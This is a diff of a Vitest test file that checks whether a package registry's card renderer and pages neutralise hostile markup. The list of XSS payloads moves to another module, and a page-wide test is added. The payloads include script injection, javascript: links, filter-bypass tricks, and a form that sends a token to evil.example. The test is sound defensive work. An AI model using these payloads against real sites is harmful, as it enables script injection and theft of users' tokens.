@@ -1,32 +1,8 @@
 import { expect, test } from "vitest";
 import { html } from "../pages/html.ts";
 import { renderCard } from "../publish/card.ts";
+import { hostile } from "./hostile-markup.ts";
 import { makePackage, publish, startRegistry } from "./material.ts";
-
-const hostile = [
-  "<script>alert(1)</script>",
-  "<img src=x onerror=alert(1)>",
-  "<svg onload=alert(1)>",
-  '<a href="javascript:alert(1)">x</a>',
-  "[x](javascript:alert(1))",
-  "[x](JaVaScRiPt:alert(1))",
-  "[x](data:text/html;base64,PHNjcmlwdD4=)",
-  "[x](//evil.example)",
-  "[x](vbscript:x)",
-  "![x](https://evil.example/x.png)",
-  "<iframe src=https://evil.example></iframe>",
-  "<style>body{display:none}</style>",
-  '<p style="position:fixed">x</p>',
-  '<form action="https://evil.example"><input name=token></form>',
-  "<meta http-equiv=refresh content=0;url=https://evil.example>",
-  "<base href=https://evil.example>",
-  "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
-  '<h1 id="main" class="skip" name="x">x</h1>',
-  '<a href="https://ok.example" onclick="alert(1)" target="_blank">x</a>',
-  "<scr<script>ipt>alert(1)</script>",
-  "<!--><script>alert(1)</script>-->",
-  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-];
 
 test.each(hostile)("a card with %j is inert", (markdown) => {
   const card = renderCard(markdown);
@@ -47,6 +23,22 @@ test("a card keeps what a card is for", () => {
     '<h2>A</h2>\n<p><strong>b</strong> <code>c</code> <a href="https://e.example" rel="nofollow noopener noreferrer">d</a></p>\n' +
       '<table>\n<thead>\n<tr>\n<th align="right">f</th>\n</tr>\n</thead>\n<tbody><tr>\n<td align="right">1</td>\n</tr>\n</tbody></table>\n',
   );
+});
+
+test("descriptions that are markup are text, on every page that shows them", async () => {
+  const at = await startRegistry();
+  // A description has at most 1,000 characters.
+  const texts = hostile.map((text) => text.replaceAll(/\p{C}/gu, " "));
+  const names = Array.from({ length: Math.ceil(texts.length / 10) }, (_, i) => `acme/k${i}`);
+  for (const [i, name] of names.entries()) {
+    await publish(at, makePackage({ name, description: texts.slice(i * 10, i * 10 + 10).join(" ") }));
+  }
+  for (const path of ["/", "/?q=k1", ...names.flatMap((name) => [`/kernels/${name}`, `/kernels/${name}/versions`])]) {
+    const text = await (await fetch(at.origin + path)).text();
+    expect(text).not.toMatch(
+      /<(script|iframe|math|object|embed|video|audio|style|base|xss|marquee|template)\b|<img (?!src="\/assets\/)/i,
+    );
+  }
 });
 
 test("templates escape every value", () => {
